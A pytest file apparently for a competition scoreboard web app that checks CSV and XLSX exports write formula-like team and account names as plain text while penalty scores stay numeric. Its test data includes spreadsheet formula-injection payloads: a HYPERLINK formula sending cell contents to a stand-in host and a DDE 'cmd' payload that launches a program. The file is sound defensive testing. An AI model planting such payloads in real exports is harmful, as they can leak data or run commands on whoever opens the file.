"""No text from data becomes a live formula in an export: team names and full names that start with
= + - @ (or a tab or a carriage return) are written as text in every CSV and XLSX; numbers stay numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from app.tables import Account, Team

NAMES = {
    "35.78": '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")',
    "35.07": "+1+1",
    "35.73": "-2+3",
    "35.15": "@SUM(A1:A9)",
    "35.16": "\tTab=1+1",
    "35.17": "\r=1+1",
}


async def _names_and_a_penalty(season, browser_factory) -> None:
    for code, name in NAMES.items():
        await Team.update({Team.name: name}).where(Team.id == season.team_ids[code])
    organiser = await browser_factory("panitia")
    # A negative score: a number must stay a number (not "'-2.50").
    penalty = await organiser.post(
        "/panitia/penyesuaian/", data={"team": "35.78", "points": "-2,5", "reason": "Laporan ganda"}
    )
    assert penalty.status_code in (302, 303)


async def test_csv_export_writes_formula_like_names_as_text(season, browser_factory):
    await _names_and_a_penalty(season, browser_factory)
    response = await (await browser_factory()).get("/papan/unduh.csv")
    assert response.status_code == 200
    first, rest = response.text.split("\r\n", 1)
    assert first == "sep=,"
    rows = {row[1]: row for row in csv.reader(io.StringIO(rest, newline=""))}
    for code, name in NAMES.items():
        assert rows[code][2] == "'" + name, code
    assert rows["35.78"][3] == "-2.50"  # the score: numeric text, no apostrophe
    assert rows["35.01"][2] == "Kabupaten Pacitan"  # an ordinary name untouched


async def test_xlsx_export_writes_formula_like_names_as_strings(season, browser_factory):
    await _names_and_a_penalty(season, browser_factory)
    response = await (await browser_factory()).get("/papan/unduh.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    for code, name in NAMES.items():
        cell = rows[code][2]
        # A string, not a formula ("f"); XML reads a carriage return back as a line feed.
        assert cell.data_type == "s" and cell.value == name.replace("\r", "\n"), code
        assert cell.quotePrefix, code
    score = rows["35.78"][3]
    assert score.data_type == "n" and score.value == -2.5
    assert rows["35.01"][2].value == "Kabupaten Pacitan" and not rows["35.01"][2].quotePrefix


async def test_account_export_writes_formula_like_names_as_text(season, browser_factory):
    await Account.update({Account.full_name: "=cmd|' /C calc'!A0"}).where(Account.username == "peserta.sby")
    await Team.update({Team.name: "@Tim"}).where(Team.id == season.team_ids["35.78"])
    response = await (await browser_factory("panitia")).get("/panitia/akun/ekspor")
    assert response.status_code == 200
    rows = {row[0]: row for row in csv.reader(io.StringIO(response.text, newline=""))}
    assert rows["peserta.sby"][1] == "'=cmd|' /C calc'!A0"
    assert rows["peserta.sby"][4] == "'@Tim"
    assert rows["juri.mlg"][1] == "Juri.Mlg"
